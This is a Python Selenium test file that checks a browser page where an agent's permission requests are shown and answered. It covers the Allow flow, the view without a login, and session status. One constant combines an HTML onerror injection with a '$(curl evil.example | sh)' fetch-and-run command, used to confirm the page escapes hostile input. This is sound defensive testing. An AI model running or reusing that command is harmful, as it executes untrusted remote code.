"""The page's permission card in a real headless chromium (the page's own server and HTML; root's
side answers as a recorder): a pending prompt shows its tool, command and diff as text, at a
phone's width; Allow sends the answer for that request; without a login in front, no buttons."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.web_helpers import ARTIFACTS
from tests.polling import wait_until
from vmgen.contract.names import VmPaths
from vmgen.contract.pageops import PageRequest
from vmgen.vmside.web.server import WebSettings, make_handler

REQUEST_ID = "r" * 32
HOSTILE = '<img src=x onerror="document.title=1">$(curl evil.example | sh)'


class Root:
    """What root's page socket answers: one pending prompt; the answers it gets."""

    def __init__(self, answerable: bool) -> None:
        self.answerable = answerable
        self.answers: list[PageRequest] = []

    def __call__(self, request: PageRequest) -> dict[str, Any]:
        if request.op == "permissions":
            ask = {"tool": "Edit", "path": "/home/agent/work/app/x.py", "command": HOSTILE, "detail": "-a = 1\n+a = 2"}
            pending = [] if self.answers else [{"id": REQUEST_ID, "ask": ask, "since": 1.0}]
            return {"pending": pending, "answerable": self.answerable}
        if request.op == "answer":
            self.answers.append(request)
            return {"answered": True, "decision": request.decision}
        return {}


def page(tmp_path: Path, root: Root) -> Iterator[str]:
    settings = WebSettings(vm=VmPaths(etc=tmp_path, state=tmp_path, run=tmp_path), ops=root)
    server = ThreadingHTTPServer(("127.0.0.1", 0), make_handler(settings))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def driver():
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = "/usr/bin/chromium"
    for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--window-size=390,844"):
        options.add_argument(flag)
    browser = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)
    yield browser
    browser.quit()


def test_allow_on_the_page_answers_that_request(tmp_path: Path, driver) -> None:
    from selenium.webdriver.common.by import By

    root = Root(answerable=True)
    for url in page(tmp_path, root):
        driver.get(url)
        card = wait_until(lambda: driver.find_elements(By.CSS_SELECTOR, "#permissions .ask"), bool, 20)
        assert card, "the pending prompt never showed"
        text = card[0].text
        assert "The agent asks to use Edit on /home/agent/work/app/x.py" in text
        assert HOSTILE in text and "+a = 2" in text  # as text: no element made of it
        assert not driver.find_elements(By.CSS_SELECTOR, "#permissions img") and driver.title != "1"
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        driver.save_screenshot(str(ARTIFACTS / "permission-prompt-390.png"))
        card[0].find_element(By.CSS_SELECTOR, "button[data-decision=allow]").click()
        assert wait_until(lambda: root.answers, bool, 20), "Allow sent nothing"
        assert (root.answers[0].request_id, root.answers[0].decision) == (REQUEST_ID, "allow")
        assert not wait_until(lambda: driver.find_element(By.ID, "permissions").is_displayed(), lambda on: not on, 20)


def test_without_a_login_the_page_shows_the_prompt_without_buttons(tmp_path: Path, driver) -> None:
    from selenium.webdriver.common.by import By

    for url in page(tmp_path, Root(answerable=False)):
        driver.get(url)
        card = wait_until(lambda: driver.find_elements(By.CSS_SELECTOR, "#permissions .ask"), bool, 20)
        assert card and "Answer it in the terminal" in card[0].text
        assert not card[0].find_elements(By.TAG_NAME, "button")


def test_the_page_says_what_each_agent_session_does(tmp_path: Path, driver) -> None:
    """Several sessions in one workspace: the page shows the watchdog's count of each state."""
    import json

    from selenium.webdriver.common.by import By

    detail = "working: a turn is open; of 2 sessions: 1 working, 1 waiting"
    (tmp_path / "idlewatch.json").write_text(json.dumps({"agent": {"state": "working", "detail": detail}}))
    for url in page(tmp_path, Root(answerable=True)):
        driver.get(url)
        shown = wait_until(lambda: driver.find_element(By.ID, "agent-detail").text, bool, 20)
        assert shown == f"agent: {detail}"
        assert driver.find_element(By.ID, "agent").text == "working"
